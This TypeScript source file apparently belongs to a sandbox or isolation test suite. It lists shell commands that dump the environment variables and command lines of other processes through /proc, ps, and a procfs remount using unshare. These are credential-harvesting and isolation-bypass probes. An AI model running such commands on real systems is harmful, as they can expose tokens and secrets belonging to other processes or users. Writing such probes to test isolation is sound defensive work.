import type { Script } from "./script.ts";

/** Scripts that read the environments and command lines of other processes. */
export const environmentScripts: readonly Script[] = [
  ["print the environment", () => "env; export -p"],
  ["read the environment of process 1", () => "tr '\\000' '\\n' </proc/1/environ"],
  ["read the environment of the parent", () => "tr '\\000' '\\n' </proc/$PPID/environ"],
  [
    "read every environment",
    () => "for f in /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ; do tr '\\000' '\\n' <$f; done 2>/dev/null",
  ],
  ["read the environment of a process outside", ({ victim }) => `tr '\\000' '\\n' </proc/${victim}/environ`],
  ["read every command line", () => "cat /proc/[0-9]*/cmdline | tr '\\000' '\\n'"],
  ["list processes with their environment", () => "ps axeww"],
  [
    "mount another procfs",
    ({ victim }) =>
      `mkdir -p p; mount -t proc proc p || unshare -Urm sh -c 'mount -t proc proc p; tr "\\000" "\\n" <p/${victim}/environ'; tr '\\000' '\\n' <p/${victim}/environ`,
  ],
];
